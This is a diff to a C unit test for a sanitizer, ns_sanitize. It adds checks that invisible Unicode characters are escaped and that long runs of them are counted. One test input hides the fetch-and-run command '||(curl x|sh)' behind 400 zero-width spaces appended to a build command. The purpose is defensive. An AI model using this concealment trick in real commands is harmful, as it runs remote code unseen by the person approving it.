@@ -212,6 +212,21 @@ test_sanitize(void **state)
 	assert_string_equal(out, "a<8 spaces>b");
 	ns_sanitize(out, 12, "a        b");
 	assert_string_equal(out, "a...");
+	/* invisible and blank code points are escaped, and a run of one is counted (red
+	 * team: 400 U+200B before "||payload") */
+	ns_sanitize(out, sizeof(out), "a\xe2\x80\x8b" "b\xc2\xa0" "c\xe3\x80\x80" "d");
+	assert_string_equal(out, "a\\u200bb\\u00a0c\\u3000d");
+	{
+		char script[1300], shown[600];
+		size_t o = 0;
+		memcpy(script, "node build.js", 13);
+		o = 13;
+		for (int i = 0; i < 400; i++, o += 3)
+			memcpy(script + o, "\xe2\x80\x8b", 3);
+		memcpy(script + o, "||(curl x|sh)", 14);
+		ns_sanitize(shown, sizeof(shown), script);
+		assert_string_equal(shown, "node build.js<400 x \\u200b>||(curl x|sh)");
+	}
 }
 
 int
